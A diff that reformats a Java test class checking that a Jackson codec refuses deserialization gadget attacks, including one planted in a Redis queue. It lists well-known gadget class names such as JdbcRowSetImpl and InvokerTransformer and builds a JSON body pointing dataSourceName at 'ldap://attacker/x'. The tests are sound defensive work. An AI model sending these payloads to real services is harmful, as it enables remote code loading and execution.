@@ -54,7 +54,9 @@ class JacksonCodecGadgetTest {
     public record Untyped(String name, Object data) {}
 
     /** A payload whose field takes class names from the body ({@code @JsonTypeInfo(use = CLASS)}). */
-    public record ClassTagged(@JsonTypeInfo(use = JsonTypeInfo.Id.CLASS, property = "@class") Object data) {}
+    public record ClassTagged(
+            @JsonTypeInfo(use = JsonTypeInfo.Id.CLASS, property = "@class")
+            Object data) {}
 
     /** Polymorphism by declared logical names, which stays allowed. */
     @JsonTypeInfo(use = JsonTypeInfo.Id.NAME, property = "type")
@@ -83,7 +85,8 @@ class JacksonCodecGadgetTest {
         assertThat(Gadget.CREATED).as("the attack works on a trusting mapper").hasPositiveValue();
         reset();
 
-        for (JacksonCodec<Untyped> codec : List.of(JacksonCodec.of(Untyped.class), JacksonCodec.of(trusting, Untyped.class))) {
+        for (JacksonCodec<Untyped> codec :
+                List.of(JacksonCodec.of(Untyped.class), JacksonCodec.of(trusting, Untyped.class))) {
             Untyped decoded = codec.decode(DEFAULT_TYPING_ATTACK.getBytes(StandardCharsets.UTF_8));
             assertThat(decoded.data()).as(codec + ": the class name is data").isInstanceOf(List.class);
             assertThat(((List<?>) decoded.data()).get(0)).isEqualTo(GADGET);
@@ -106,15 +109,16 @@ class JacksonCodecGadgetTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {
-        "com.sun.rowset.JdbcRowSetImpl",
-        "org.springframework.context.support.ClassPathXmlApplicationContext",
-        "ch.qos.logback.core.db.DriverManagerConnectionSource",
-        "com.zaxxer.hikari.HikariConfig",
-        "org.apache.commons.collections.functors.InvokerTransformer",
-        "java.lang.ProcessBuilder",
-        "javax.script.ScriptEngineManager"
-    })
+    @ValueSource(
+            strings = {
+                "com.sun.rowset.JdbcRowSetImpl",
+                "org.springframework.context.support.ClassPathXmlApplicationContext",
+                "ch.qos.logback.core.db.DriverManagerConnectionSource",
+                "com.zaxxer.hikari.HikariConfig",
+                "org.apache.commons.collections.functors.InvokerTransformer",
+                "java.lang.ProcessBuilder",
+                "javax.script.ScriptEngineManager"
+            })
     void wellKnownGadgetClassNames_areRefused(String gadget) {
         JacksonCodec<ClassTagged> codec = JacksonCodec.of(ClassTagged.class);
         String body = "{\"data\":{\"@class\":\"" + gadget + "\",\"dataSourceName\":\"ldap://attacker/x\"}}";
@@ -127,7 +131,8 @@ class JacksonCodecGadgetTest {
         JacksonCodec<Shape> codec = JacksonCodec.of(Shape.class);
         assertThat(codec.decode("{\"type\":\"circle\",\"radius\":2.0}".getBytes(StandardCharsets.UTF_8)))
                 .isEqualTo(new Circle(2.0));
-        assertThat(new String(codec.encode(new Circle(1.0)), StandardCharsets.UTF_8)).contains("\"circle\"");
+        assertThat(new String(codec.encode(new Circle(1.0)), StandardCharsets.UTF_8))
+                .contains("\"circle\"");
     }
 
     @Test
@@ -135,7 +140,9 @@ class JacksonCodecGadgetTest {
         ObjectMapper trusting = new ObjectMapper()
                 .activateDefaultTyping(LaissezFaireSubTypeValidator.instance, ObjectMapper.DefaultTyping.NON_FINAL);
         JacksonCodec.of(trusting, Untyped.class);
-        assertThat(trusting.getSerializationConfig().getDefaultTyper(null)).as("still the caller's choice").isNotNull();
+        assertThat(trusting.getSerializationConfig().getDefaultTyper(null))
+                .as("still the caller's choice")
+                .isNotNull();
     }
 
     /** A gadget written into a queue by someone with write access to Redis is dead-lettered, never run. */
@@ -143,15 +150,18 @@ class JacksonCodecGadgetTest {
     void gadgetInAQueue_isDeadLetteredAsUndecodable_andNothingIsInstantiated() {
         try (RedisServer server = RedisServer.builder().requireProcessControl().start();
                 RedisClient client = RedisClients.builder(server).poolSize(4).build();
-                MessageQueue<ClassTagged> q = Transport.LIST_AT_LEAST_ONCE.build(client, "gadget",
-                        JacksonCodec.of(ClassTagged.class), b -> b);
-                MessageQueue<String> attacker = Transport.LIST_AT_LEAST_ONCE.build(client, "gadget", Codec.utf8(), b -> b)) {
+                MessageQueue<ClassTagged> q = Transport.LIST_AT_LEAST_ONCE.build(
+                        client, "gadget", JacksonCodec.of(ClassTagged.class), b -> b);
+                MessageQueue<String> attacker =
+                        Transport.LIST_AT_LEAST_ONCE.build(client, "gadget", Codec.utf8(), b -> b)) {
             attacker.send(CLASS_PROPERTY_ATTACK);
             AtomicInteger handled = new AtomicInteger();
-            q.consume(d -> {
-                d.payload();
-                handled.incrementAndGet();
-            }, ConsumeOptions.builder().pollTimeout(Duration.ofMillis(200)).build());
+            q.consume(
+                    d -> {
+                        d.payload();
+                        handled.incrementAndGet();
+                    },
+                    ConsumeOptions.builder().pollTimeout(Duration.ofMillis(200)).build());
             await().atMost(Duration.ofSeconds(10)).until(() -> q.stats().dead() == 1);
             assertThat(handled).as("handler calls that got a payload").hasValue(0);
             DeadLetter<ClassTagged> dead = q.deadLetters().list(1).get(0);
